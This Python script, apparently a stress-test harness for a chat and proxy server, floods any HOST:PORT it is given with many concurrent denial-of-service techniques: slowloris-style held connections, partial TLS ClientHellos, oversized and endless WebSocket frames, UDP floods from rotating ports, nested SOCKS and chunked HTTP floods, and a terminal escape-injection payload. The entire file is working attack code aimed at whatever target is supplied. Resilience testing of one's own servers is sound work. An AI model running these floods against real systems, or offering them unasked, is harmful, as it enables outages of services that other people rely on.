"""Floods a server for some seconds over some concurrent connections.

usage: attack.py KIND TARGET SECONDS
KIND is one of the functions below; TARGET is HOST:PORT or unix:/path. Exits with 0 whatever the server does: it may
close, reset or refuse connections. Whether it still serves others is measured by another program.
"""
import os
import random
import socket
import struct
import sys
import threading
import time

KIND, TARGET, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
END = time.monotonic() + SECONDS
NOISE = random.Random(7)


def connect() -> socket.socket:
    if TARGET.startswith("unix:"):
        conn = socket.socket(socket.AF_UNIX)
        conn.settimeout(2)
        conn.connect(TARGET[5:])
    else:
        host, port = TARGET.rsplit(":", 1)
        conn = socket.create_connection((host, int(port)), timeout=2)
    return conn


def discard_input(conn: socket.socket) -> None:
    """Reads and discards all input, so that only the server limits the rate of the flood."""
    def read() -> None:
        try:
            while conn.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()


def pour(data: bytes, pause: float = 0, reads: bool = True) -> None:
    while time.monotonic() < END:
        try:
            with connect() as conn:
                # Closing sends a RST, so that the server discards what it has not read by then.
                conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                if reads:
                    discard_input(conn)
                while time.monotonic() < END:
                    conn.sendall(data)
                    time.sleep(pause)
        except OSError:
            time.sleep(0.05)


def hold(first: bytes, count: int) -> None:
    """Holds many connections that have sent the beginning of a request."""
    held = []
    while time.monotonic() < END:
        try:
            conn = connect()
            conn.sendall(first)
            held.append(conn)
        except OSError:
            time.sleep(0.05)
        if len(held) >= count:
            held.pop(0).close()
            time.sleep(1)


def datagram_socket() -> socket.socket:
    host, port = TARGET.rsplit(":", 1)
    conn = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    conn.connect((host, int(port)))
    return conn


def send_datagrams(sizes: list[int]) -> None:
    """As many as the kernel takes, from one address."""
    data = NOISE.randbytes(65507)
    with datagram_socket() as conn:
        while time.monotonic() < END:
            try:
                conn.send(data[:NOISE.choice(sizes)])
            except OSError:
                pass


def datagrams() -> None:
    send_datagrams([1, 64, 512, 2048])


def empty_datagrams() -> None:
    send_datagrams([0])


def long_datagrams() -> None:
    send_datagrams([2049, 9000, 65507])


def many_sources() -> None:
    """Each datagram from another port, as with a forged sender: each asks for a session."""
    while time.monotonic() < END:
        try:
            with datagram_socket() as conn:
                conn.send(b"hello")
        except OSError:
            time.sleep(0.01)


def newlines() -> None:
    pour(b"\n" * (1 << 18))


def lines() -> None:
    pour(b"hello, everybody\n" * 10_000)


def huge_line() -> None:
    pour(b"x" * (1 << 18))


def commands() -> None:
    pour(b"/who\n/name a\n/name b\n/history\n/help\n/x\n" * 1_000)


def names() -> None:
    pour(b"/name aa\n/name bb\n" * 5_000)


def one_byte() -> None:
    pour(b"a", pause=0.0001)


def garbage() -> None:
    pour(NOISE.randbytes(1 << 16))


def escapes() -> None:
    pour(b"\x1b[2J\x1b]0;owned\x07\xc2\x9b31m\r\x00\n" * 2_000)


def stalls() -> None:
    pour(b"/help\n" * 10_000, reads=False)


def resets() -> None:
    while time.monotonic() < END:
        try:
            conn = connect()
            conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            conn.sendall(b"x" * NOISE.choice([0, 1, 100, 100_000]))
            conn.close()
        except OSError:
            pass


def half_open() -> None:
    hold(b"", 300)


def half_close() -> None:
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.sendall(b"half\n")
                conn.shutdown(socket.SHUT_WR)
                conn.recv(1)
        except OSError:
            pass


def half_requests() -> None:
    hold(b"GET /metrics HTTP/1.1\r\nHost: loc", 300)


def many_headers() -> None:
    pour(b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"X-A: b\r\n" * 10_000)


def requests() -> None:
    pour(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 20)


def half_hellos() -> None:
    hold(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 300)


def large_half_hellos() -> None:
    """A ClientHello of 15 KiB whose last byte never comes."""
    hold(b"\x16\x03\x01\x3c\x00\x01\x00\x3b\xfd\x03\x03" + b"\0" * 15_000, 300)


def hello_records() -> None:
    """Records of one byte each, which never make a whole ClientHello."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                for byte in b"\x01\x00\x08\x00" + b"\x03" * 2_000:
                    conn.sendall(b"\x16\x03\x01\x00\x01%c" % byte)
        except OSError:
            time.sleep(0.05)


def half_protocols() -> None:
    """The beginnings of protocols that are not to be told apart yet."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.sendall(NOISE.choice([b"S", b"SSH", b"GE", b"\x16\x03", b"\x05", b"P"]))
                conn.shutdown(socket.SHUT_WR)
                conn.recv(100)
        except OSError:
            pass


def half_proxy_headers() -> None:
    hold(b"PROXY TCP4 192.0.2.1 ", 300)


def proxy_headers() -> None:
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.sendall(b"PROXY TCP4 192.0.2.1 192.0.2.2 %d 80\r\nhello\n" % NOISE.randrange(1, 65536))
                conn.recv(1)
        except OSError:
            pass


UPGRADE = (
    b"GET / HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


def ws_pour(frames: bytes, reads: bool = True) -> None:
    """Opens WebSockets, and sends these frames over each without end."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                conn.sendall(UPGRADE)
                if reads:
                    discard_input(conn)
                while time.monotonic() < END:
                    conn.sendall(frames)
        except OSError:
            time.sleep(0.05)


def ws_frames() -> None:
    ws_pour((b"\x82\xfe\xff\xff\x01\x02\x03\x04" + b"x" * 0xFFFF) * 4)


def ws_tiny_frames() -> None:
    ws_pour(b"\x82\x81\x01\x02\x03\x04x" * 30_000)


def ws_pings() -> None:
    ws_pour(b"\x89\x84\x01\x02\x03\x04ping" * 20_000, reads=False)


def ws_fragments() -> None:
    """One message that never ends, in fragments that are empty."""
    ws_pour(b"\x01\x80\x01\x02\x03\x04" + b"\x00\x80\x01\x02\x03\x04" * 30_000)


def ws_half_frames() -> None:
    hold(UPGRADE + b"\x82\xff\x00\x00", 300)


def ws_stalls() -> None:
    ws_pour((b"\x82\xfe\xff\xff\x01\x02\x03\x04" + b"x" * 0xFFFF) * 4, reads=False)


def half_upgrades() -> None:
    hold(UPGRADE[:-2], 300)


def socks_address(target: str) -> bytes:
    host, port = target.rsplit(":", 1)
    return b"\x01" + socket.inet_aton(host) + struct.pack("!H", int(port))


def socks(command: int, target: str) -> bytes:
    """A greeting without a password, and a request."""
    return b"\x05\x01\x00" + bytes([5, command, 0]) + socks_address(target)


def socks_half_requests() -> None:
    hold(socks(1, "127.0.0.1:9")[:-3], 300)


def socks_connects() -> None:
    """Requests for a port at which nothing listens."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.sendall(socks(1, "127.0.0.1:9"))
                conn.recv(64)
        except OSError:
            pass


def socks_nested() -> None:
    """Requests for the proxy itself, each in the one before it."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.sendall(socks(1, TARGET) * 2_000)
                while conn.recv(1 << 16):
                    pass
        except OSError:
            pass


def socks_binds() -> None:
    hold(socks(2, "0.0.0.0:0"), 300)


def socks_passwords() -> None:
    """Wrong passwords, each of which takes long to compare."""
    while time.monotonic() < END:
        try:
            with connect() as conn:
                secret = NOISE.randbytes(20).hex().encode()
                conn.sendall(b"\x05\x01\x02\x01\x03joe" + bytes([len(secret)]) + secret)
                conn.recv(64)
        except OSError:
            pass


def http_passwords() -> None:
    pour(b"CONNECT 127.0.0.1:9 HTTP/1.1\r\nProxy-Authorization: Basic am9lOngK\r\n\r\n")


def http_chunks() -> None:
    """A body of the smallest chunks, which is sent on to the proxy itself."""
    head = f"POST http://{TARGET}/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
    while time.monotonic() < END:
        try:
            with connect() as conn:
                conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                conn.sendall(head)
                while time.monotonic() < END:
                    conn.sendall(b"1\r\nx\r\n" * 30_000)
        except OSError:
            time.sleep(0.05)


def socks_datagrams() -> None:
    """Associations, and as many datagrams as the kernel takes over one of them."""
    host = TARGET.rsplit(":", 1)[0]
    while time.monotonic() < END:
        try:
            with connect() as conn, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as relay:
                conn.sendall(socks(3, "0.0.0.0:0"))
                reply = conn.recv(2) + conn.recv(10)
                relay.connect((host, struct.unpack("!H", reply[-2:])[0]))
                message = b"\x00\x00\x00" + socks_address("127.0.0.1:9") + NOISE.randbytes(500)
                for _ in range(100_000):
                    relay.send(message)
                    if time.monotonic() > END:
                        break
        except OSError:
            pass


ATTACKERS = {"resets": 8, "half_close": 8, "proxy_headers": 8, "one_byte": 4, "requests": 4, "socks_connects": 8, "socks_passwords": 8}

if __name__ == "__main__":
    attack = globals()[KIND]
    threads = [threading.Thread(target=attack, daemon=True) for _ in range(ATTACKERS.get(KIND, 2))]
    for thread in threads:
        thread.start()
    time.sleep(max(0, END - time.monotonic()))
    os._exit(0)
